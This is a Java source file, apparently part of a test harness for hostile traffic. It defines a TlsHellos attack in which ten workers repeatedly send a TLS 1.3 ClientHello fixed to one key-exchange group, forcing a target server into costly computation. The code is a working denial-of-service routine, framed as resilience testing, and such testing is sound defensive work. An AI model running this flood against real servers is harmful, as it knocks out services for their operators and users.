// SPDX-License-Identifier: Apache-2.0
package chat.prove.hostile;

import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.security.GeneralSecurityException;
import java.time.Duration;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLParameters;

/**
 * The same TLS hello again and again: it costs the sender nothing, and a server that agrees to its
 * group a computation.
 */
final class TlsHellos implements Attack {
  private static final int WORKERS = 10;
  private static final int ANSWER_MILLIS = 3_000;
  private static final Duration PACE = Duration.ofMillis(50);
  private static final int HELLO = 64 << 10;

  private final String group;

  TlsHellos(String group) {
    this.group = group;
  }

  @Override
  public void run(Target target) throws IOException, InterruptedException {
    byte[] hello = hello();
    int port = target.server().port();
    target.together(
        WORKERS,
        () -> {
          Socket socket = target.socket(Addresses.ATTACKER, port);
          try {
            socket.setSoTimeout(ANSWER_MILLIS);
            target.send(socket, hello);
            var _ = socket.getInputStream().read();
          } finally {
            target.release(socket);
          }
          target.pause(PACE);
        });
  }

  private byte[] hello() throws IOException {
    try {
      SSLContext context = SSLContext.getInstance("TLSv1.3");
      context.init(null, null, null);
      SSLEngine engine = context.createSSLEngine();
      engine.setUseClientMode(true);
      SSLParameters parameters = engine.getSSLParameters();
      parameters.setNamedGroups(new String[] {group});
      engine.setSSLParameters(parameters);
      ByteBuffer hello = ByteBuffer.allocate(HELLO);
      engine.wrap(ByteBuffer.allocate(0), hello);
      byte[] bytes = new byte[hello.flip().remaining()];
      hello.get(bytes);
      return bytes;
    } catch (GeneralSecurityException e) {
      throw new IOException("no hello for " + group, e);
    }
  }
}
